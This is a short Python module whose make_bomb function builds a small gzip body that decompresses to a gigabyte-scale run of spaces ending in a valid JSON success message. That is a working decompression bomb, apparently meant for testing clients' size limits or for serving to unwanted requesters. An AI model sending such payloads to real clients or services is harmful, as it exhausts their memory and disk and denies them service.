"""A small gzip body that unpacks to very much: valid JSON behind white space."""

from __future__ import annotations

import struct
import zlib
from functools import lru_cache

_BLOCK = b" " * (1 << 20)
_TAIL = b'{"message":"success"}'
_HEADER = b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\xff"


@lru_cache(maxsize=4)
def make_bomb(size: int) -> bytes:
    """Return a gzip body of about a thousandth of `size` that unpacks to at least `size`.

    One block is packed once and repeated, so a gigabyte takes as long as its checksum.
    """
    blocks = -(-size // len(_BLOCK))
    packer = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    # A full flush forgets what came before, so that the block may follow itself.
    block = packer.compress(_BLOCK) + packer.flush(zlib.Z_FULL_FLUSH)
    tail = packer.compress(_TAIL) + packer.flush()
    checksum = 0
    for _ in range(blocks):
        checksum = zlib.crc32(_BLOCK, checksum)
    checksum = zlib.crc32(_TAIL, checksum)
    length = blocks * len(_BLOCK) + len(_TAIL)
    return _HEADER + block * blocks + tail + struct.pack("<II", checksum, length & 0xFFFFFFFF)
